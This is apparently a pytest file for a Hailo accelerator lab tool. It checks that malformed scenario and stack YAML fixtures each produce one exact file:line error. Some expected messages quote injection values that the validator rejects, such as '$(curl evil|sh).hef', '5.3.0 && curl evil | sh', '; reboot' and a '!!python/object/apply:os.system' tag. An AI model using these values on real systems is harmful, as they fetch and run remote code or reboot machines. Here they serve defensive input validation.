"""Every malformed scenario or stack in tests/fixtures/bad/ gives one exact `file:line` message."""

from __future__ import annotations

from pathlib import Path

import pytest

from lab.errors import ConfigError
from lab.inputs import check_file
from lab.scenario import load_scenario, parse_scenario
from lab.stack import load_stack

PROJECT = Path(__file__).resolve().parents[2]
BAD = Path("tests/fixtures/bad")
HEF_HINT = "use letters, digits, '.', '_', '-', '+' and '/', ending in .hef; nothing from a scenario reaches a shell"
VALID = {"stacks/h10-5.3.0.yaml"}  # the one good stack the bad scenarios refer to

# (file under tests/fixtures/bad, line, what, hint[, file the error is in when it is not this one])
CASES = [
    ("scenarios/bad_collect_item.yaml", 8, "phases[0].steps[0].collect[2] must be one of 'dmesg', 'runtime_log', "
     "'journal', 'throttled', 'lspci', 'cma' or 'temps', got 'temperature'", None),
    ("scenarios/bad_power_mode.yaml", 8, "phases[0].steps[0].benchmark.power_mode must be one of 'performance' or "
     "'ultra_performance', got 'turbo'", None),
    ("scenarios/duplicate_key.yaml", 8, "duplicate key 'steps'", "it is already set at line 7"),
    ("scenarios/duplicate_matrix_stack.yaml", 5, "stack 'h10-5.3.0' is listed twice",
     "use 'repeats' to run a stack more than once"),
    ("scenarios/duplicate_phase.yaml", 10, "duplicate phase name 'soak'",
     "phase names must be unique; phases[0] has it too"),
    ("scenarios/empty.yaml", 1, "file is empty", "write a YAML mapping, e.g. 'name: ...'"),
    ("scenarios/fractional_count.yaml", 8,
     "phases[0].steps[0].configure_cycles.count must be a whole number, got 2.5", "count: how many configure cycles"),
    ("scenarios/hef_command_substitution.yaml", 8, "hef '$(curl evil|sh).hef' is not a plain .hef path", HEF_HINT),
    ("scenarios/hef_unknown_chip.yaml", 11, "unknown chip 'hailo9' in hef", "chips: hailo10h, hailo8, hailo8l"),
    ("scenarios/hef_option_injection.yaml", 8, "hef '--help.hef' is not a plain .hef path", HEF_HINT),
    ("scenarios/hef_shell_injection.yaml", 9, "hef 'yolo26s_hailo10h.hef; reboot' is not a plain .hef path", HEF_HINT),
    ("scenarios/missing_hef.yaml", 8, "phases[0].steps[0].benchmark has no 'hef'",
     "add 'hef:' (the .hef model file on the node, e.g. yolo26s_hailo10h.hef, or a mapping chip -> file)"),
    ("scenarios/missing_matrix.yaml", 1, "the scenario has no 'matrix'",
     "add 'matrix:' ('stacks: [...]' and optionally 'repeats' and 'group')"),
    ("scenarios/name_with_space.yaml", 1, "scenario name 'cma soak' is not a plain name",
     "use letters, digits, '.', '_' and '-' (at most 64, starting with a letter or digit)"),
    ("scenarios/negative_cooldown.yaml", 8, "phases[0].steps[0].cooldown must be at least 1, got -240",
     "seconds: idle seconds, e.g. 'cooldown: 240'"),
    ("scenarios/negative_runs.yaml", 9, "phases[0].steps[1].benchmark.runs must be at least 1, got -3",
     "runs: how many benchmark invocations, back to back"),
    ("scenarios/no_phases.yaml", 4, "phases must not be empty", "phases: the ordered phases, each with a name and steps"),
    ("scenarios/phase_does_nothing.yaml", 6, "phase 'idle' has no steps and does not reboot",
     "add 'steps:', 'reboot: true' or 'power_cycle: true'"),
    ("scenarios/provision_broken_stack.yaml", 2, "chip must be one of 'hailo10h', 'hailo8' or 'hailo8l', got 'hailo9'",
     None, "stacks/bad-chip.yaml"),
    ("scenarios/provision_unknown_stack.yaml", 8, "unknown stack 'h10-5.3.O' at phases[0].steps[0].provision.stack",
     "did you mean 'h10-5.3.1'?"),
    ("scenarios/python_tag.yaml", 8, "unsupported YAML tag '!!python/object/apply:os.system'",
     "remove the tag: lab files hold plain data only"),
    ("scenarios/reboot_not_bool.yaml", 7, "phases[0].reboot must be true or false, got 'after'",
     "reboot: true to reboot the node before the steps"),
    ("scenarios/runs_as_string.yaml", 10, "phases[0].steps[0].benchmark.runs must be a whole number, got '25'",
     "runs: how many benchmark invocations, back to back"),
    ("scenarios/stacks_not_list.yaml", 3, "matrix.stacks must be a list, got 'h10-5.3.0'",
     "stacks: stack names, files in stacks/, e.g. [h10-5.3.0]"),
    ("scenarios/step_settings_not_indented.yaml", 8, "a step must have exactly one key, its name; got benchmark, hef",
     "indent a step's settings under its name: 'benchmark:' then 'hef: ...' below it"),
    ("scenarios/step_takes_no_settings.yaml", 8, "step 'driver_reload' takes no settings, got a mapping",
     "write '- driver_reload'"),
    ("scenarios/top_level_list.yaml", 1, "the scenario must be a mapping of keys, got a list", "start with 'name: ...'"),
    ("scenarios/unknown_stack.yaml", 3, "unknown stack 'h10-5.3.9' at matrix.stacks[1]", "did you mean 'h10-5.3.1'?"),
    ("scenarios/unknown_step.yaml", 9, "unknown step 'benchmrk'", "did you mean 'benchmark'?"),
    ("scenarios/unknown_top_key.yaml", 4, "unknown key 'phase' in the scenario", "did you mean 'phases'?"),
    ("scenarios/yaml_tab_indent.yaml", 3, "YAML syntax error: found character '\\t' that cannot start any token "
     "(while scanning for the next token)", "indent with spaces, not tabs"),
    ("scenarios/yaml_two_documents.yaml", 8, "YAML syntax error: more than one YAML document in the file",
     "remove the extra '---'"),
    ("scenarios/yaml_unclosed_bracket.yaml", 4, "YAML syntax error: expected ',' or ']', but got ':' "
     "(while parsing a flow sequence)", "check the indentation and quoting on this line and the one before"),
    ("scenarios/zero_repeats.yaml", 4, "matrix.repeats must be at least 1, got 0",
     "repeats: how many times each node runs each stack"),
    ("stacks/bad-chip.yaml", 2, "chip must be one of 'hailo10h', 'hailo8' or 'hailo8l', got 'hailo9'", None),
    ("stacks/firmware-injection.yaml", 5, "firmware '$(reboot)' is not a version", "write it like 5.3.0 or 4.23.0-1"),
    ("stacks/has-source.yaml", 7, "a stack names versions only, not where packages come from",
     "remove 'source:'; set lab_hailo_sources per inventory group (archive, {apt: LINE} or {files: FOLDER})"),
    ("stacks/hold-not-bool.yaml", 6, "hold must be true or false, got 'sometimes'",
     "hold: true to apt-mark hold the packages after installing them"),
    ("stacks/missing-driver.yaml", 1, "the stack has no 'driver'", "add 'driver:' (PCIe driver version, e.g. 5.3.0)"),
    ("stacks/name-mismatch.yaml", 1, "stack name 'h10-5.3.0' does not match the file name 'name-mismatch.yaml'",
     "scenarios refer to a stack by its file name; make them equal"),
    ("stacks/pin-injection.yaml", 4, "driver '5.3.0 && curl evil | sh' is not a version",
     "write it like 5.3.0 or 4.23.0-1"),
    ("stacks/unknown-key.yaml", 6, "unknown key 'pin' in the stack",
     "expected one of: chip, description, driver, firmware, hailort, hold, name"),
    ("stacks/version-as-number.yaml", 3, "hailort must be a string, got 5.3",
     "hailort: HailoRT library and CLI version, e.g. 5.3.0"),
    ("unknown_kind.yaml", 1, "cannot tell whether this is a scenario, a stack or a fleet profile",
     "a scenario has 'matrix' and 'phases', a stack has 'chip' and 'hailort', a fleet profile has 'nodes'"),
]


@pytest.fixture(autouse=True)
def in_project(monkeypatch):
    """Run from the project root, so messages name the short relative paths."""
    monkeypatch.chdir(PROJECT)


def _expected(case) -> tuple[str, str, str | None]:
    name, line, what, hint, *other = case
    return f"{BAD / (other[0] if other else name)}:{line}", what, hint


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_bad_file_gives_one_exact_message(case):
    with pytest.raises(ConfigError) as info:
        check_file(BAD / case[0])
    error = info.value
    assert (error.where, error.what, error.hint) == _expected(case)
    assert error.exit_code == 2
    assert "\n" not in str(error)


@pytest.mark.parametrize("case", [c for c in CASES if c[0].startswith("scenarios/")], ids=lambda c: c[0])
def test_load_scenario_gives_the_same_message(case):
    with pytest.raises(ConfigError) as info:
        load_scenario(BAD / case[0])
    assert (info.value.where, info.value.what, info.value.hint) == _expected(case)


@pytest.mark.parametrize("case", [c for c in CASES if c[0].startswith("stacks/")], ids=lambda c: c[0])
def test_load_stack_gives_the_same_message(case):
    with pytest.raises(ConfigError) as info:
        load_stack(BAD / case[0])
    assert (info.value.where, info.value.what, info.value.hint) == _expected(case)


def test_at_least_twenty_bad_files_and_each_has_a_case():
    files = {str(p.relative_to(PROJECT / BAD)) for p in (PROJECT / BAD).rglob("*.yaml")}
    assert files - VALID == {c[0] for c in CASES}
    assert len(CASES) >= 20


def test_unknown_stack_lists_the_stacks_when_nothing_is_close(tmp_path):
    (tmp_path / "stacks").mkdir()
    for name in ("h10-5.1.1", "h8-4.23.0"):
        (tmp_path / "stacks" / f"{name}.yaml").write_text("name: x\n")
    (tmp_path / "s.yaml").write_text("name: s\nmatrix:\n  stacks: [zzz]\nphases: [{name: p, reboot: true}]\n")
    with pytest.raises(ConfigError) as info:
        load_scenario(tmp_path / "s.yaml", stacks_dir=tmp_path / "stacks")
    assert info.value.what == "unknown stack 'zzz' at matrix.stacks[0]"
    assert info.value.where == f"{tmp_path}/s.yaml:3"
    assert info.value.hint == f"stacks are the files in {tmp_path}/stacks/: h10-5.1.1, h8-4.23.0"


def test_no_stacks_directory(tmp_path):
    (tmp_path / "s.yaml").write_text("name: s\nmatrix:\n  stacks: [a]\nphases: [{name: p, reboot: true}]\n")
    with pytest.raises(ConfigError) as info:
        load_scenario(tmp_path / "s.yaml", stacks_dir=tmp_path / "nowhere")
    assert info.value.hint == f"there is no stack directory {tmp_path}/nowhere/"


@pytest.mark.parametrize("path, what, hint", [
    ("tests/fixtures/bad/missing.yaml", "no such file", "check the path"),
    ("tests/fixtures/bad", "is a directory, not a file", "name a .yaml file"),
])
def test_unreadable_files(path, what, hint):
    with pytest.raises(ConfigError) as info:
        check_file(path)
    assert (info.value.what, info.value.where, info.value.hint) == (what, path, hint)


def test_not_utf8(tmp_path):
    (tmp_path / "s.yaml").write_bytes(b"name: \xff\n")
    with pytest.raises(ConfigError) as info:
        load_scenario(tmp_path / "s.yaml")
    assert (info.value.what, info.value.hint) == ("not UTF-8 text (byte 6)", "save the file as UTF-8")


@pytest.mark.parametrize("text, line, what", [
    ("a: &x [*x]\n", 1, "recursive YAML alias"),
    ("? [a, b]\n: 1\n", 1, "a key must be a plain word, not a list or mapping"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps: [{}]\n", 5, "empty step"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps: [7]\n", 5,
     "a step must be a step name or a mapping with one key, got 7"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps: [{benchmark: 5}]\n", 5,
     "step 'benchmark' takes a mapping of settings, got 5"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps: [{identify: {kind: x}}]\n", 5,
     "step 'identify' takes no settings, got a mapping"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps:\n      - benchmark: {kind: x, hef: a.hef}\n", 6,
     "unknown key 'kind' in step 'benchmark'"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps: [{collect: [dmesg, dmesg]}]\n", 5,
     "'dmesg' is collected twice"),
    ("name: s\nmatrix: {stacks: [a], group: 'a;b'}\nphases: [{name: p, reboot: true}]\n", 2,
     "group 'a;b' is not a plain name"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps:\n      - benchmark: {hef: {}}\n", 6,
     "hef is an empty mapping"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps:\n      - benchmark:\n          hef: [a.hef]\n", 7,
     "hef must be a .hef path or a mapping of chip to .hef path, got a list"),
    ("name: s\nmatrix: {stacks: [a]}\nphases:\n  - name: p\n    steps:\n      - benchmark:\n          hef:\n"
     "            hailo8: 'x;y.hef'\n", 8, "hef 'x;y.hef' is not a plain .hef path"),
    ("name: 5\nmatrix: {stacks: [a]}\nphases: [{name: p, reboot: true}]\n", 1, "name must be a string, got 5"),
    ("name: s\nmatrix: {stacks: [a]}\nreboot_timeout: true\nphases: [{name: p, reboot: true}]\n", 3,
     "reboot_timeout must be a whole number, got true"),
    ("name: s\nmatrix: {stacks: [a]}\nphases: [soak]\n", 3, "phases[0] must be a mapping of keys, got 'soak'"),
])
def test_more_mistakes(text, line, what):
    with pytest.raises(ConfigError) as info:
        parse_scenario(text, "s.yaml")
    assert (info.value.where, info.value.what) == (f"s.yaml:{line}", what)
